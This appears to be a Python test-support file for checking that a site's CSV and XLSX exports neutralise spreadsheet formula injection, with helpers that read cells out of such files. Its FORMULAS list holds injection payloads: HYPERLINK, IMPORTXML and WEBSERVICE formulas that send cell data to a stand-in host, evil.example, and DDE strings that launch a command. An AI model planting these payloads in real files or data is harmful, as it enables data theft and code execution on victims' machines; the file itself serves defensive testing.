"""Texts a spreadsheet would run as a formula (OWASP "CSV injection"), for the tests of every
CSV and XLSX file the site offers (tests/security/test_formula_cells.py). Each starts with one
of = + - @, a tab or a carriage return, the characters that make Excel, LibreOffice or Google
Sheets read a cell as a formula or a DDE command."""

from __future__ import annotations

import csv
import io
import re
import zipfile

FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("https://evil.example/?",A1:B9),"//a")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=WEBSERVICE("https://evil.example/")',
    "-=1+1",
    '+=HYPERLINK("https://evil.example")',
]
# Where a cell starts like a formula the files write a leading apostrophe (text to a
# spreadsheet); a plain number ("-3", "+4.5") stays a number.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def runs(cell: str) -> bool:
    """Whether a spreadsheet would run this cell."""
    return cell.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(cell)


def csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def xlsx_cells(content: bytes) -> tuple[list[str], int]:
    """The text of every cell of every sheet, and how many cells hold a formula (<f>)."""
    cells: list[str] = []
    formulas = 0
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if not name.startswith("xl/worksheets/"):
                continue
            xml = archive.read(name).decode()
            formulas += xml.count("<f>") + xml.count("<f ")
            for found in re.findall(r"<t[^>]*>(.*?)</t>", xml, re.S):
                cells.append(found.replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&"))
    return cells, formulas
